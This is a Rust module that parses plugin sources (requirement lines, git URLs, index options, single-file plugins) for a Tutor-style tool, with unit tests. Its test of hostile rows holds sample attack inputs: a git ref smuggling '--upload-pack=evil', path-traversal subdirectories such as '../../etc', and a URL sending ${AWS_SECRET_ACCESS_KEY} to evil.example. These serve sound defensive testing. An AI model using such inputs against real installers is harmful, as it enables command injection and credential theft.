//! Plugin sources: the `src` of an index entry (and `plonk install -r FILE`, and targets on the
//! command line) parsed into a typed [`Source`], with Tutor's grammar: a requirements-file
//! fragment (PEP 508 lines, `name @ url`, `-e git+URL@REF#egg=NAME`, `git+URL@REF`, and the
//! options `--index-url`, `--extra-index-url`, `--find-links`, which apply to that source only)
//! or the http(s) URL / local path of a single-file plugin.
//!
//! Parsing is pure: no file is read and no environment variable is looked at.

mod error;
pub mod git;

use std::path::PathBuf;
use std::str::FromStr;

use pep508_rs::{PackageName, Requirement, VersionOrUrl};
use url::Url;

pub use error::{ParseCause, SourceError};

/// Where a plugin comes from.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Source {
    /// Requirement lines installed together, with the package sources they name.
    Requirements {
        /// The requirements, in order.
        lines: Vec<SourceLine>,
        /// Package index options that apply to these lines only.
        options: SourceOptions,
    },
    /// A single-file plugin.
    SingleFile(SingleFileSource),
}

/// One requirement of a [`Source::Requirements`].
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum SourceLine {
    /// A PEP 508 requirement: `name>=1,<2`, `name[extra]; marker`, `name @ https://…/x.whl`.
    Requirement(Requirement),
    /// A git repository: `git+URL@REF#egg=NAME`, `-e git+…`, or `NAME @ git+URL@REF`.
    Git(GitSource),
}

/// A git source.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct GitSource {
    /// The repository URL, without `git+`, the `@REF` and the fragment.
    pub url: Url,
    /// Branch, tag or commit; `None` means the default branch.
    pub reference: Option<String>,
    /// The distribution name (`#egg=NAME`, or `NAME @ git+…`).
    pub name: Option<PackageName>,
    /// `#subdirectory=…`: the project's folder inside the repository (relative, no `..`).
    pub subdirectory: Option<String>,
    /// Given with `-e` (plonk installs it like any other source; kept for the record).
    pub editable: bool,
}

/// Package index options given inside a source.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct SourceOptions {
    /// `--index-url` / `-i`: replaces the default package index.
    pub index_url: Option<Url>,
    /// `--extra-index-url`: searched after the main index.
    pub extra_index_urls: Vec<Url>,
    /// `--find-links` / `-f`: folders or pages of links, as written.
    pub find_links: Vec<String>,
}

impl SourceOptions {
    /// Whether no option was given.
    pub fn is_empty(&self) -> bool {
        self.index_url.is_none() && self.extra_index_urls.is_empty() && self.find_links.is_empty()
    }
}

/// A single-file plugin.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct SingleFileSource {
    /// Where the file is.
    pub location: FileLocation,
    /// Python module or YAML plugin.
    pub kind: SingleFileKind,
}

/// An http(s) URL or a local path.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum FileLocation {
    /// An http(s) URL.
    Url(Url),
    /// A local path, as written (`file://` URLs become paths).
    Path(PathBuf),
}

impl std::fmt::Display for FileLocation {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            FileLocation::Url(url) => f.write_str(&redact(url.as_str())),
            FileLocation::Path(path) => write!(f, "{}", path.display()),
        }
    }
}

/// The two kinds of single-file plugins.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum SingleFileKind {
    /// A `.py` module (anything that is not `.yml`/`.yaml`, as in Tutor).
    Python,
    /// A `.yml` / `.yaml` plugin.
    Yaml,
}

impl SingleFileSource {
    /// The last path segment of the location (`notes.py`), possibly empty for a URL ending
    /// with `/`.
    pub fn base_name(&self) -> String {
        match &self.location {
            FileLocation::Url(url) => url
                .path_segments()
                .and_then(|mut s| s.next_back())
                .unwrap_or_default()
                .to_string(),
            FileLocation::Path(path) => path
                .file_name()
                .map(|n| n.to_string_lossy().into_owned())
                .unwrap_or_default(),
        }
    }

    /// The file name Tutor gives the plugin in the plugins root: the base name, with `.py`
    /// appended unless it already ends with `.py` or `.yml`.
    pub fn file_name(&self) -> String {
        let base = self.base_name();
        if base.ends_with(".py") || base.ends_with(".yml") {
            base
        } else {
            format!("{base}.py")
        }
    }

    /// The plugin name Tutor derives for a `.py` plugin: the file name's stem.
    pub fn plugin_name(&self) -> String {
        let name = self.file_name();
        name.rsplit_once('.')
            .map(|(stem, _)| stem.to_string())
            .unwrap_or(name)
    }
}

impl Source {
    /// Parses the `src` of a plugin index entry (or a command-line target). A single line that
    /// is an http(s) URL, a `file://` URL or a path to a `.py`/`.yml` file is a single-file
    /// plugin; anything else is a requirements fragment. `${VAR}` is refused: index data must
    /// not be able to read the user's environment.
    pub fn parse(src: &str) -> Result<Source, SourceError> {
        let trimmed = src.trim();
        if let Some(single) = single_file(trimmed) {
            return Ok(Source::SingleFile(single));
        }
        parse_lines(trimmed, false).map_err(|(_, err)| err)
    }

    /// The distribution names this source installs, where it names them: requirement names
    /// and git `#egg=` names. Single files name none (their plugin name is their stem).
    pub fn distribution_names(&self) -> Vec<PackageName> {
        match self {
            Source::Requirements { lines, .. } => lines
                .iter()
                .filter_map(|line| match line {
                    SourceLine::Requirement(req) => Some(req.name.clone()),
                    SourceLine::Git(git) => git.name.clone(),
                })
                .collect(),
            Source::SingleFile(_) => Vec::new(),
        }
    }
}

/// Parses a requirements file (`plonk install -r FILE`) with the same grammar as `src`.
/// A requirements file is never a single-file plugin; errors name `origin` and the line.
pub fn parse_requirements_file(text: &str, origin: &str) -> Result<Source, SourceError> {
    parse_lines(text, true).map_err(|(line_number, err)| match line_number {
        Some(line_number) => SourceError::InFile {
            origin: origin.to_string(),
            line_number,
            source: Box::new(err),
        },
        None => err,
    })
}

/// Whether `text` is a single-file plugin location, and which.
fn single_file(text: &str) -> Option<SingleFileSource> {
    if text.is_empty() || text.chars().any(char::is_whitespace) {
        return None;
    }
    let lower = text.to_ascii_lowercase();
    let kind_of = |name: &str| {
        if name.ends_with(".yml") || name.ends_with(".yaml") {
            SingleFileKind::Yaml
        } else {
            SingleFileKind::Python
        }
    };
    if lower.starts_with("http://") || lower.starts_with("https://") {
        let url = Url::parse(text).ok()?;
        let kind = kind_of(url.path());
        return Some(SingleFileSource {
            location: FileLocation::Url(url),
            kind,
        });
    }
    if lower.starts_with("file://") {
        let url = Url::parse(text).ok()?;
        let path = url.to_file_path().ok()?;
        let kind = kind_of(&path.to_string_lossy());
        return Some(SingleFileSource {
            location: FileLocation::Path(path),
            kind,
        });
    }
    let looks_like_path = text.starts_with('/')
        || text.starts_with("./")
        || text.starts_with("../")
        || text.starts_with("~/");
    let plugin_extension = [".py", ".yml", ".yaml"]
        .iter()
        .any(|ext| lower.ends_with(ext));
    if plugin_extension && (looks_like_path || !text.contains('@')) {
        return Some(SingleFileSource {
            location: FileLocation::Path(PathBuf::from(text)),
            kind: kind_of(&lower),
        });
    }
    None
}

/// Joins continued lines and strips comments, as pip does: `(line number, logical line)`.
fn logical_lines(text: &str) -> Vec<(usize, String)> {
    let mut out = Vec::new();
    let mut pending: Option<(usize, String)> = None;
    for (index, raw) in text.lines().enumerate() {
        let number = index + 1;
        let is_comment = raw.trim_start().starts_with('#');
        if raw.ends_with('\\') && !is_comment {
            let part = &raw[..raw.len() - 1];
            match &mut pending {
                Some((_, acc)) => acc.push_str(part),
                None => pending = Some((number, part.to_string())),
            }
            continue;
        }
        let (first, mut line) = match pending.take() {
            Some((first, mut acc)) => {
                if !is_comment {
                    acc.push_str(raw);
                }
                (first, acc)
            }
            None => (number, raw.to_string()),
        };
        strip_comment(&mut line);
        let line = line.trim().to_string();
        if !line.is_empty() {
            out.push((first, line));
        }
    }
    if let Some((first, mut line)) = pending {
        strip_comment(&mut line);
        let line = line.trim().to_string();
        if !line.is_empty() {
            out.push((first, line));
        }
    }
    out
}

/// Removes a `#` comment that starts a line or follows whitespace (`#egg=` in a URL stays).
fn strip_comment(line: &mut String) {
    let bytes = line.as_bytes();
    for (i, b) in bytes.iter().enumerate() {
        if *b == b'#' && (i == 0 || bytes[i - 1].is_ascii_whitespace()) {
            line.truncate(i);
            return;
        }
    }
}

type Located = (Option<usize>, SourceError);

fn parse_lines(text: &str, trusted: bool) -> Result<Source, Located> {
    let mut lines = Vec::new();
    let mut options = SourceOptions::default();
    for (number, line) in logical_lines(text) {
        let at = |err: SourceError| (Some(number), err);
        if !trusted && line.contains("${") {
            return Err(at(SourceError::EnvironmentVariable {
                line: redact(&line),
            }));
        }
        if line.starts_with('-') {
            parse_option_line(&line, &mut options, &mut lines).map_err(at)?;
        } else {
            lines.push(parse_requirement_line(&line).map_err(at)?);
        }
    }
    if lines.is_empty() {
        return Err((None, SourceError::Empty));
    }
    Ok(Source::Requirements { lines, options })
}

/// The options plonk understands, with whether they take a value.
fn option_name(token: &str) -> Option<(&'static str, &str)> {
    // Returns the canonical name and any value attached with `=` or glued to a short flag.
    let table: &[(&str, &'static str)] = &[
        ("--index-url", "index-url"),
        ("--extra-index-url", "extra-index-url"),
        ("--find-links", "find-links"),
        ("--editable", "editable"),
    ];
    for (long, name) in table {
        if token == *long {
            return Some((name, ""));
        }
        if let Some(value) = token.strip_prefix(long).and_then(|r| r.strip_prefix('=')) {
            return Some((name, value));
        }
    }
    let short: &[(&str, &'static str)] = &[
        ("-i", "index-url"),
        ("-f", "find-links"),
        ("-e", "editable"),
    ];
    for (flag, name) in short {
        if let Some(rest) = token.strip_prefix(flag) {
            let rest = rest.strip_prefix('=').unwrap_or(rest);
            return Some((name, rest));
        }
    }
    None
}

fn parse_option_line(
    line: &str,
    options: &mut SourceOptions,
    lines: &mut Vec<SourceLine>,
) -> Result<(), SourceError> {
    let mut tokens = line.split_whitespace().peekable();
    while let Some(token) = tokens.next() {
        let Some((name, attached)) = option_name(token) else {
            return Err(SourceError::UnsupportedOption {
                option: option_of(token),
            });
        };
        let value = if attached.is_empty() {
            match tokens.next() {
                Some(v) => v.to_string(),
                None => {
                    return Err(SourceError::MissingValue {
                        option: token.to_string(),
                    });
                }
            }
        } else {
            attached.to_string()
        };
        match name {
            "index-url" => options.index_url = Some(parse_index_url(token, &value)?),
            "extra-index-url" => options
                .extra_index_urls
                .push(parse_index_url(token, &value)?),
            "find-links" => options.find_links.push(value),
            _ => {
                // `-e` takes the rest of the line (a URL has no spaces; anything after it is
                // an option pip would reject too).
                if let Some(extra) = tokens.next() {
                    return Err(SourceError::UnsupportedOption {
                        option: option_of(extra),
                    });
                }
                lines.push(parse_editable(&value)?);
            }
        }
    }
    Ok(())
}

/// The option part of a token (`--hash=sha256:…` → `--hash`).
fn option_of(token: &str) -> String {
    token.split('=').next().unwrap_or(token).to_string()
}

fn parse_index_url(option: &str, value: &str) -> Result<Url, SourceError> {
    let path = std::path::Path::new(value);
    if path.is_absolute()
        && let Ok(url) = Url::from_directory_path(path)
    {
        return Ok(url);
    }
    Url::parse(value).map_err(|cause| SourceError::BadUrl {
        option: option_of(option),
        value: redact(value),
        cause,
    })
}

fn parse_editable(value: &str) -> Result<SourceLine, SourceError> {
    let lower = value.to_ascii_lowercase();
    if lower.starts_with("git+") {
        return Ok(SourceLine::Git(parse_git(value, true, None)?));
    }
    if ["hg+", "svn+", "bzr+"].iter().any(|p| lower.starts_with(p)) {
        return Err(SourceError::UnsupportedVcs {
            line: redact(value),
        });
    }
    Err(SourceError::EditableLocal {
        line: redact(value),
    })
}

fn parse_requirement_line(line: &str) -> Result<SourceLine, SourceError> {
    // Options after a requirement (`--hash=…`, `--config-settings`) are per-requirement pip
    // options that plonk does not implement.
    if let Some(option) = line
        .split_whitespace()
        .skip(1)
        .find(|t| t.starts_with("--") || (t.starts_with('-') && t.len() == 2))
    {
        return Err(SourceError::UnsupportedOption {
            option: option_of(option),
        });
    }
    let lower = line.to_ascii_lowercase();
    if lower.starts_with("git+") {
        return Ok(SourceLine::Git(parse_git(line, false, None)?));
    }
    if ["hg+", "svn+", "bzr+"].iter().any(|p| lower.starts_with(p)) {
        return Err(SourceError::UnsupportedVcs { line: redact(line) });
    }
    let is_bare_location = ["http://", "https://", "file:", "/", "./", "../", "~"]
        .iter()
        .any(|prefix| lower.starts_with(prefix));
    if is_bare_location {
        return Err(SourceError::Nameless { line: redact(line) });
    }
    let requirement =
        crate::dist::parse_requirement(line).map_err(|err| SourceError::Requirement {
            line: redact(line),
            cause: ParseCause(match err {
                crate::dist::RequirementError::Refused { reason, .. } => reason.to_string(),
                crate::dist::RequirementError::Invalid { message, .. } => message,
            }),
        })?;
    if let Some(VersionOrUrl::Url(url)) = &requirement.version_or_url {
        let given = url.given().unwrap_or(url.as_str()).to_string();
        let is_git = given.to_ascii_lowercase().starts_with("git+")
            || url.scheme().to_ascii_lowercase().starts_with("git+");
        if is_git && requirement.extras.is_empty() && requirement.marker.is_true() {
            let git_text = if given.to_ascii_lowercase().starts_with("git+") {
                given
            } else {
                url.as_str().to_string()
            };
            return Ok(SourceLine::Git(parse_git(
                &git_text,
                false,
                Some(requirement.name.clone()),
            )?));
        }
    }
    Ok(SourceLine::Requirement(requirement))
}

/// Parses `git+SCHEME://host/path@REF#egg=NAME&subdirectory=DIR`.
fn parse_git(
    text: &str,
    editable: bool,
    name: Option<PackageName>,
) -> Result<GitSource, SourceError> {
    let fail = |problem: &str| SourceError::Git {
        text: redact(text),
        problem: problem.to_string(),
    };
    let rest = text.get(4..).ok_or_else(|| fail("it is too short"))?;
    let mut url =
        Url::parse(rest).map_err(|err| fail(&format!("the URL does not parse ({err})")))?;
    if !matches!(url.scheme(), "https" | "http" | "ssh" | "git" | "file") {
        return Err(fail("the scheme must be https, http, ssh, git or file"));
    }
    if url.scheme() != "file" && url.host_str().is_none_or(str::is_empty) {
        return Err(fail("the URL has no host"));
    }
    let mut egg = None;
    let mut subdirectory = None;
    if let Some(fragment) = url.fragment() {
        for pair in fragment.split('&').filter(|p| !p.is_empty()) {
            let (key, value) = pair.split_once('=').unwrap_or((pair, ""));
            match key {
                "egg" => egg = Some(value.to_string()),
                "subdirectory" => subdirectory = Some(value.to_string()),
                _ => return Err(fail(&format!("unknown fragment key `{key}`"))),
            }
        }
    }
    url.set_fragment(None);
    let path = url.path().to_string();
    let (repo_path, reference) = match path.rsplit_once('@') {
        Some((repo, reference)) => (repo.to_string(), Some(reference.to_string())),
        None => (path.clone(), None),
    };
    if let Some(reference) = &reference {
        check_reference(reference).map_err(&fail)?;
    }
    url.set_path(&repo_path);
    if repo_path.trim_matches('/').is_empty() {
        return Err(fail("the URL names no repository"));
    }
    let name = match (name, egg) {
        (Some(name), _) => Some(name),
        (None, Some(egg)) => Some(
            PackageName::from_str(&egg)
                .map_err(|_| fail(&format!("`#egg={egg}` is not a valid package name")))?,
        ),
        (None, None) => None,
    };
    if let Some(sub) = &subdirectory {
        let bad = sub.is_empty()
            || sub.starts_with('/')
            || sub.contains('\\')
            || sub.split('/').any(|c| c == "..");
        if bad {
            return Err(fail(
                "`#subdirectory=` must be a relative folder inside the repository",
            ));
        }
    }
    Ok(GitSource {
        url,
        reference,
        name,
        subdirectory,
        editable,
    })
}

/// A git reference that cannot be mistaken for an option or climb out of `refs/`.
fn check_reference(reference: &str) -> Result<(), &'static str> {
    if reference.is_empty() {
        return Err("the `@REF` after the repository is empty");
    }
    if reference.starts_with('-')
        || reference.contains("..")
        || reference
            .chars()
            .any(|c| c.is_whitespace() || c.is_control() || "~^:?*[\\".contains(c))
    {
        return Err("the `@REF` is not a valid git branch, tag or commit");
    }
    Ok(())
}

/// Hides the password of `scheme://user:password@host` in text shown to the user.
pub fn redact(text: &str) -> String {
    let Some(scheme_end) = text.find("://") else {
        return text.to_string();
    };
    let authority_start = scheme_end + 3;
    let authority_end = text[authority_start..]
        .find(['/', '?', '#'])
        .map_or(text.len(), |i| authority_start + i);
    let authority = &text[authority_start..authority_end];
    let Some(at) = authority.rfind('@') else {
        return text.to_string();
    };
    let userinfo = &authority[..at];
    let shown = match userinfo.split_once(':') {
        Some((user, _)) => format!("{user}:****"),
        None => return text.to_string(),
    };
    format!(
        "{}{}{}",
        &text[..authority_start],
        shown,
        &text[authority_start + at..]
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    fn req_lines(src: &str) -> (Vec<SourceLine>, SourceOptions) {
        match Source::parse(src).unwrap_or_else(|e| panic!("{src:?}: {e}")) {
            Source::Requirements { lines, options } => (lines, options),
            other => panic!("{src:?} gave {other:?}"),
        }
    }

    fn git(src: &str) -> GitSource {
        match req_lines(src).0.as_slice() {
            [SourceLine::Git(g)] => g.clone(),
            other => panic!("{src:?} gave {other:?}"),
        }
    }

    #[test]
    fn requirement_lines() {
        let rows = [
            ("tutor-mfe>=18.0.0,<19.0.0", "tutor-mfe"),
            ("tutor-contrib-aspects<2.0.0", "tutor-contrib-aspects"),
            ("  Tutor_Indigo  ", "tutor-indigo"),
            ("tutor-x[extra]>=1; python_version >= '3.8'", "tutor-x"),
            (
                "name @ https://example.org/name-1.0-py3-none-any.whl",
                "name",
            ),
        ];
        for (src, name) in rows {
            let (lines, options) = req_lines(src);
            assert!(options.is_empty());
            match lines.as_slice() {
                [SourceLine::Requirement(r)] => assert_eq!(r.name.as_ref(), name, "{src}"),
                other => panic!("{src}: {other:?}"),
            }
        }
    }

    #[test]
    fn git_lines() {
        let g = git(
            "-e git+https://github.com/edunext/tutor-contrib-codejail@v15.0.0#egg=tutor-contrib-codejail",
        );
        assert_eq!(
            g.url.as_str(),
            "https://github.com/edunext/tutor-contrib-codejail"
        );
        assert_eq!(g.reference.as_deref(), Some("v15.0.0"));
        assert_eq!(
            g.name.as_ref().map(|n| n.as_ref()),
            Some("tutor-contrib-codejail")
        );
        assert!(g.editable);

        let g = git("git+https://github.com/org/repo.git@feature/x");
        assert_eq!(g.url.as_str(), "https://github.com/org/repo.git");
        assert_eq!(g.reference.as_deref(), Some("feature/x"));
        assert_eq!(g.name, None);
        assert!(!g.editable);

        let g = git("git+ssh://git@github.com/org/repo#subdirectory=plugins/a&egg=A_b");
        assert_eq!(g.url.as_str(), "ssh://git@github.com/org/repo");
        assert_eq!(g.reference, None);
        assert_eq!(g.subdirectory.as_deref(), Some("plugins/a"));
        assert_eq!(g.name.as_ref().map(|n| n.as_ref()), Some("a-b"));

        let g = git("tutor-x @ git+https://github.com/org/tutor-x@main");
        assert_eq!(g.name.as_ref().map(|n| n.as_ref()), Some("tutor-x"));
        assert_eq!(g.reference.as_deref(), Some("main"));

        let g = git("--editable=git+file:///srv/repos/plugin@0123abcd#egg=plugin");
        assert_eq!(g.url.as_str(), "file:///srv/repos/plugin");
        assert!(g.editable);
    }

    #[test]
    fn options_apply_to_the_source() {
        let src = "# comment\n--index-url https://pypi.example/simple\n--extra-index-url=https://extra.example/simple/\n-f /srv/wheels\n--find-links=https://links.example/\n\ntutor-a>=1 # trailing comment\ntutor-b \\\n  >=2\n";
        let (lines, options) = req_lines(src);
        assert_eq!(lines.len(), 2);
        assert_eq!(
            options.index_url.unwrap().as_str(),
            "https://pypi.example/simple"
        );
        assert_eq!(
            options.extra_index_urls[0].as_str(),
            "https://extra.example/simple/"
        );
        assert_eq!(
            options.find_links,
            vec!["/srv/wheels", "https://links.example/"]
        );
        match &lines[1] {
            SourceLine::Requirement(r) => assert_eq!(r.to_string(), "tutor-b>=2"),
            other => panic!("{other:?}"),
        }
        let (_, options) = req_lines("-i /srv/simple\nx");
        assert_eq!(options.index_url.unwrap().as_str(), "file:///srv/simple/");
    }

    #[test]
    fn single_files() {
        let rows = [
            (
                "https://gist.githubusercontent.com/u/abc/raw/myplugin.py",
                SingleFileKind::Python,
                "myplugin",
            ),
            (
                "https://example.org/raw/plugin",
                SingleFileKind::Python,
                "plugin",
            ),
            (
                "https://example.org/plugins/theme.yml",
                SingleFileKind::Yaml,
                "theme",
            ),
            ("/home/me/plugins/local.py", SingleFileKind::Python, "local"),
            ("./local.yml", SingleFileKind::Yaml, "local"),
            ("myplugin.py", SingleFileKind::Python, "myplugin"),
            ("file:///srv/p/x.py", SingleFileKind::Python, "x"),
        ];
        for (src, kind, name) in rows {
            match Source::parse(src).unwrap() {
                Source::SingleFile(s) => {
                    assert_eq!(s.kind, kind, "{src}");
                    assert_eq!(s.plugin_name(), name, "{src}");
                }
                other => panic!("{src}: {other:?}"),
            }
        }
        match Source::parse("file:///srv/p/x.py").unwrap() {
            Source::SingleFile(s) => {
                assert_eq!(s.location, FileLocation::Path("/srv/p/x.py".into()))
            }
            other => panic!("{other:?}"),
        }
    }

    #[test]
    fn distribution_names() {
        let src =
            Source::parse("tutor-a\n-e git+https://h/r@x#egg=Tutor_B\ngit+https://h/c").unwrap();
        let names: Vec<String> = src
            .distribution_names()
            .iter()
            .map(|n| n.to_string())
            .collect();
        assert_eq!(names, vec!["tutor-a", "tutor-b"]);
        assert!(
            Source::parse("https://h/x.py")
                .unwrap()
                .distribution_names()
                .is_empty()
        );
    }

    #[test]
    fn garbage_truncated_and_hostile_rows() {
        let rows: &[(&str, &str)] = &[
            ("", "empty"),
            ("# only a comment\n\n", "empty"),
            ("--index-url https://x/simple", "empty"),
            ("tutor-mfe>=", "not a valid requirement"),
            ("tutor mfe", "not a valid requirement"),
            ("==1.0", "not a valid requirement"),
            ("[", "not a valid requirement"),
            ("tutor-mfe --hash=sha256:abc", "`--hash`"),
            ("-r other.txt", "`-r`"),
            ("--pre", "`--pre`"),
            ("--index-url", "needs a value"),
            ("--index-url not a url\nx", "not a URL"),
            ("-e ./local", "editable local project"),
            ("-e hg+https://h/r#egg=x", "other than git"),
            ("svn+https://h/r", "other than git"),
            ("git+", "not a usable git source"),
            ("git+https://", "not a usable git source"),
            ("git+ftp://h/r", "scheme"),
            ("git+https://h/r@", "empty"),
            (
                "git+https://h/r@--upload-pack=evil",
                "not a valid git branch",
            ),
            ("git+https://h/r@a..b", "not a valid git branch"),
            ("git+https://h/r#egg=bad name", "not a usable git source"),
            ("git+https://h/r#subdirectory=../../etc", "relative folder"),
            ("git+https://h/r#subdirectory=/etc", "relative folder"),
            ("git+https://h/r#foo=bar", "unknown fragment"),
            ("git+https://h/", "names no repository"),
            (
                "https://files.example/x-1.0.whl\ntutor-a",
                "has no package name",
            ),
            ("/abs/x.tar.gz\nx", "has no package name"),
            (
                "name @ https://evil.example/${AWS_SECRET_ACCESS_KEY}",
                "environment variable",
            ),
            (
                "--index-url https://${TOKEN}@h/simple\nx",
                "environment variable",
            ),
        ];
        for (src, expected) in rows {
            let err = Source::parse(src).expect_err(src);
            let message = err.to_string();
            assert!(message.contains(expected), "{src:?}: {message}");
            assert!(!message.contains('\n'), "{src:?}: {message}");
        }
    }

    #[test]
    fn credentials_are_hidden_in_errors() {
        let err = Source::parse("git+https://user:s3cret@h/r@a..b").unwrap_err();
        assert!(!err.to_string().contains("s3cret"), "{err}");
        assert_eq!(redact("https://u:p@h/x"), "https://u:****@h/x");
        assert_eq!(redact("https://u@h/x@y"), "https://u@h/x@y");
        assert_eq!(redact("no url"), "no url");
    }

    #[test]
    fn requirements_files_locate_errors() {
        let text = "tutor-a\n\n# c\ntutor-b \\\n  >=\n";
        let err = parse_requirements_file(text, "reqs.txt").unwrap_err();
        assert_eq!(err.to_string(), "line 4 of `reqs.txt` is not usable");
        let source = std::error::Error::source(&err).unwrap().to_string();
        assert!(source.contains("tutor-b"), "{source}");
        // Trusted files may use `${VAR}` in requirement lines, as with pip.
        let ok = parse_requirements_file("tutor-a\n-e git+https://h/r@v1#egg=r\n", "f").unwrap();
        assert_eq!(ok.distribution_names().len(), 2);
        // A requirements file is never a single file.
        assert!(parse_requirements_file("https://h/x.py", "f").is_err());
    }

    #[test]
    fn every_real_index_src_parses() {
        let root = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("fixtures/tpi");
        let mut count = 0;
        for entry in walkdir::WalkDir::new(root) {
            let entry = entry.unwrap();
            if entry.file_name() != "plugins.yml" {
                continue;
            }
            let text = std::fs::read_to_string(entry.path()).unwrap();
            for line in text.lines() {
                if let Some(src) = line.strip_prefix("  src: ") {
                    let parsed = Source::parse(src).unwrap_or_else(|e| panic!("{src}: {e}"));
                    assert!(!parsed.distribution_names().is_empty(), "{src}");
                    count += 1;
                }
            }
        }
        assert!(count > 100, "{count}");
    }
}
